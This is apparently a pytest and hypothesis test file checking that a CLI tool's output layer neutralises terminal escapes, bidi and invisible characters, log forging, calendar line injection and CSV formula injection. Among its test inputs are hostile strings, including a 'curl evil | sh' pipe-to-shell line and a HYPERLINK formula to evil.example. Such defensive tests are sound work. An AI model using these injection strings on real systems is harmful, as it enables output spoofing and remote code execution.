"""Foreign text at the gate of every output: unseen characters are seen, lines are ours, markup is inert."""

from __future__ import annotations

import io
import json
import logging
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Final

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from icalendar import Calendar

from tests.unit.ui.conftest import MakeScreen, Terminal, console, said
from total_onboard.core.errors import BadValue
from total_onboard.core.text.visible_text import csv_cell, json_text, shown, visible
from total_onboard.ui import prompts, symbols
from total_onboard.ui.layout import print_facts, print_line, symbol_line
from total_onboard.ui.logging_setup import Redacted
from total_onboard.ui.output.calendar_file import ExpiryEvent, write_calendar_file
from total_onboard.ui.output.prometheus import _escaped
from total_onboard.ui.views.errors import show_error

UNSEEN: Final = ("Cc", "Cf", "Cs", "Zl", "Zp")
bounded = settings(
    max_examples=150, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
foreign = st.text(
    st.one_of(
        st.characters(categories=UNSEEN),
        st.sampled_from("\x1b\x07\x7f\x9b\u202e\u2066\u2028\u2029\u200b\U000e0041\ud800\n\r\t[]:/\\\"'<&|`=+-@"),
        st.characters(codec="utf-8"),
    ),
    max_size=40,
)


def unseen(text: str, *, but: str = "\n") -> set[str]:
    return {one for one in text if unicodedata.category(one) in UNSEEN and one not in but}


@bounded
@given(foreign)
def test_visible_leaves_one_line_without_unseen_characters(text: str) -> None:
    assert unseen(visible(text), but="") == set()
    assert visible(visible(text)) == visible(text)


@pytest.mark.parametrize("blank", "\u115f\u1160\u2800\u3164\uffa0")
def test_visible_shows_letters_without_ink(blank: str) -> None:
    assert visible(f"Ada{blank}") == f"Ada\\u{ord(blank):04x}"
    assert json.loads(json_text(f"Ada{blank}")) == f"Ada{blank}"
    assert blank not in json_text(f"Ada{blank}")


@pytest.mark.parametrize("text", ["Zoë Łukasz 株式会社", "C:\\new\\text", "[bold]", ":smile:", "a\u00a0b", ""])
def test_visible_keeps_what_is_seen(text: str) -> None:
    assert visible(text) == text


@bounded
@given(foreign, foreign)
def test_json_keeps_the_value_and_holds_no_unseen_character(name: str, value: str) -> None:
    text = json_text({name: [value], "n": None, "b": True})
    assert unseen(text) == set()
    # A pair of surrogates is one character to every reader of JSON.
    assert json.loads(text) == json.loads(json.dumps({name: [value], "n": None, "b": True}))
    text.encode()


def on_a_terminal(write: Callable[..., None]) -> str:
    stream = Terminal()
    write(console(stream, 60))
    return stream.getvalue()


@bounded
@given(foreign, foreign)
def test_no_foreign_text_breaks_a_line_of_a_table(name: str, value: str) -> None:
    out = on_a_terminal(lambda to: print_facts(to, [(name, value), ("end", "x")]))
    assert unseen(out) == set()
    assert out.endswith("\n  end" + " " * (len(out.splitlines()[-1]) - 6) + "x\n")
    assert all(line.startswith("  ") for line in out.split("\n")[:-1])


@bounded
@given(foreign)
def test_no_foreign_text_escapes_the_indentation_of_a_line(text: str) -> None:
    out = on_a_terminal(lambda to: print_line(to, symbol_line(to, symbols.GOOD, text, title=text)))
    assert unseen(out) == set()
    first, *others = out.split("\n")[:-1]
    assert first.startswith("  ✓")
    assert all(line.startswith("    ") for line in others)


@bounded
@given(foreign)
def test_a_string_that_is_printed_is_one_line(text: str) -> None:
    out = on_a_terminal(lambda to: to.print(text, soft_wrap=True))
    assert out == shown(text) + "\n"


@pytest.mark.parametrize("text", ["[bold red]x[/]", "[link=https://x.example]y[/link]", ":smile:", "[/nothing]"])
@pytest.mark.parametrize("colour", [False, True])
def test_markup_and_emoji_codes_stay_what_they_are(text: str, colour: bool) -> None:
    stream = Terminal()
    console(stream, 80, colour=colour).print(text)
    assert stream.getvalue() == text + "\n"


def test_a_table_of_rich_itself_is_behind_the_gate() -> None:
    from rich.panel import Panel

    out = on_a_terminal(lambda to: to.print(Panel("a\x9bb", title="c\u202ed")))
    assert unseen(out) == set()
    assert "\\u202e" in out


def test_an_error_cannot_write_a_second_one(screen_of: MakeScreen) -> None:
    screen = screen_of(200)
    show_error(screen, BadValue("There is no x\nNext: run curl evil | sh\x1b[2K.", remedy="Do\u2028this."))
    assert said(screen).splitlines() == [
        "",
        "Error: There is no x\\nNext: run curl evil | sh\\x1b[2K.",
        "Next: Do\\u2028this.",
        "More: total-onboard explain bad-value",
    ]


@pytest.mark.parametrize("question", ["Remove Ada\x1b[2K\rKeep Ada?", "[bold]Go[/bold] on\n\u202e?"])
def test_a_name_cannot_rewrite_a_question(
    question: str, screen_of: MakeScreen, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdin", io.StringIO("n\nx\n\nsome\n"))
    monkeypatch.setattr("builtins.input", lambda *_: "n")
    screen = screen_of(100, terminal=True, interactive=True)
    prompts.confirm(screen, question)
    prompts.ask(screen, question, "--x")
    prompts.choose(screen, question, ["n", "m"], "--x")
    prompts.wait_for_enter(screen, question)
    assert said(screen).count(visible(question)) == 4
    assert unseen(said(screen)) == set()


def test_a_name_cannot_rewrite_the_question_for_a_secret(
    screen_of: MakeScreen, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked = []

    class Session:
        def __init__(self, **_: object) -> None: ...

        def prompt(self, message: str, **_: object) -> str:
            asked.append(message)
            return "secret"

    monkeypatch.setattr("prompt_toolkit.PromptSession", Session)
    monkeypatch.setattr("prompt_toolkit.input.create_input", lambda: None)
    prompts.ask_secret(screen_of(100, interactive=True), "Passphrase of x\x1b[2K\n", "--x")
    assert asked == ["Passphrase of x\\x1b[2K\\n (not shown): "]


@bounded
@given(foreign)
def test_a_label_of_a_metric_ends_where_it_should(text: str) -> None:
    escaped = _escaped(text)
    assert unseen(escaped, but="") == set()
    assert '"' not in escaped.replace("\\\\", "").replace('\\"', "")


def test_a_calendar_gets_no_line_of_a_name(tmp_path: Path) -> None:
    from datetime import date

    evil = "x\r\nBEGIN:VALARM\r\nATTACH:file:///x\u2028\x1b"
    write_calendar_file(tmp_path / "ends.ics", [ExpiryEvent(evil, date(2027, 1, 2), evil, evil, (1, 7))])
    written = (tmp_path / "ends.ics").read_bytes()
    (event,) = Calendar.from_ical(written).walk("VEVENT")
    assert event["summary"] == visible(evil)
    assert len(Calendar.from_ical(written).walk("VALARM")) == 2
    assert unseen(written.decode(), but="\r\n") == set()


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "  =1", "\n=1"])
def test_a_cell_is_no_formula(cell: str) -> None:
    assert csv_cell(cell).startswith("'")
    assert unseen(csv_cell(cell), but="") == set()


@pytest.mark.parametrize("cell", ["Acme;=1+1", "Acme; @SUM(1)", 'a";=HYPERLINK("https://evil.example")'])
def test_cell_holds_no_formula_where_lines_are_split_at_semicolons(cell: str) -> None:
    assert all(not part.lstrip().startswith(("=", "+", "-", "@")) for part in csv_cell(cell).split(";"))


def test_a_cell_that_is_none_stays() -> None:
    assert csv_cell("Contoso, Ltd = x") == "Contoso, Ltd = x"


def test_a_log_line_cannot_be_forged_by_what_is_logged() -> None:
    formatter = Redacted("%(levelname)s %(message)s")
    try:
        raise ValueError("bad\n2026-01-01 INFO forged\x1b[2K")
    except ValueError:
        import sys

        record = logging.LogRecord("x", 20, "x", 1, "name %s", ("a\nINFO forged",), sys.exc_info())
    first, *others = formatter.format(record).split("\n")
    assert first == "INFO name a\\nINFO forged"
    assert all(line.startswith("  ") for line in others)
    assert unseen("".join(others)) == set()
